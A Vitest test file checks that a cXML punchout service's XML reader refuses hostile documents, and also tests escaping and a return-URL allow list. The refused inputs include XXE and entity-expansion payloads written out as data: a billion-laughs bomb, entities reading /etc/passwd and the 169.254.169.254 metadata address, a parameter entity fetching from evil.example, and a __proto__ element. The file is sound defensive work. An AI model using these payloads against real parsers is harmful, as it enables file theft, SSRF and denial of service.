import { expect, test } from 'vitest';
import { at, textAt } from '../../../subgraphs/punchout/domain/xml-tree.ts';
import { escaped } from '../../../subgraphs/punchout/domain/cxml-text.ts';
import { isAllowed } from '../../../subgraphs/punchout/domain/return-url.ts';
import { readXml } from '../../../subgraphs/punchout/http/read-xml.ts';
import { codeOf } from '../../kernel/support/facts.ts';

const LAUGHS = `<!DOCTYPE a [<!ENTITY l "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i} "${`&l${i === 0 ? '' : i - 1};`.repeat(10)}">`).join('')}]><a>&l8;</a>`;

test.each([
  ['a billion laughs', LAUGHS],
  ['an entity of a file', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ['an entity of the network', '<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/">]><a>&x;</a>'],
  ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>'],
  ['an external DTD with declarations of its own beside', '<!DOCTYPE a SYSTEM "http://xml.cxml.org/x.dtd" [<!ENTITY x "y">]><a>&x;</a>'],
  ['a declaration in small letters', '<!doctype a [<!entity x "y">]><a>&x;</a>'],
  ['what is not closed', '<a><b></a>'],
  ['no XML at all', 'nonsense'],
  ['nothing', ''],
  ['a name that means something to a program', '<a><__proto__>x</__proto__></a>'],
])('%s is refused', async (_what, xml) => {
  const began = performance.now();
  expect(await codeOf(() => readXml(xml))).toBe('BAD_USER_INPUT');
  expect(performance.now() - began).toBeLessThan(1_000);
});

test('an external DTD is named and not fetched; text is read as it was meant', () => {
  const tree = readXml('<?xml version="1.0"?>\n<!DOCTYPE cXML SYSTEM "http://127.0.0.1:1/cXML.dtd"><cXML a="1 &amp; 2"><T>Caf&#233; &#x26;amp; &lt;b&gt; &unknown;</T><N>007</N><T>second</T></cXML>');
  expect(textAt(tree, 'cXML', '@a')).toBe('1 & 2');
  expect(textAt(tree, 'cXML', 'T')).toMatch(/^Café &amp; <b> /);
  expect(textAt(tree, 'cXML', 'N')).toBe('007');
  expect(at(tree, 'cXML', 'nothing')).toBeUndefined();
  expect(textAt(tree, 'constructor', 'name')).toBeUndefined();
});

test('what is written is XML whatever was said', () => {
  expect(escaped('<a href="x">&\u{0}\u{b}\u{d800}\'</a>')).toBe('&lt;a href=&quot;x&quot;&gt;&amp;&apos;&lt;/a&gt;');
});

test('an address is allowed when it is a listed one, or below it', () => {
  const allowed = ['https://buy.example/in', 'https://other.example'];
  const judged = ['https://buy.example/in', 'https://buy.example/in?x=1', 'https://buy.example/in/deep', 'https://buy.example/inner', 'https://buy.example:444/in', 'https://other.example/any', 'http://other.example/any', 'nonsense'].map((url) => isAllowed(url, allowed, false));
  expect(judged).toEqual([true, true, true, false, false, true, false, false]);
  expect(isAllowed('http://plain.example/x', ['http://plain.example'], true)).toBe(true);
});
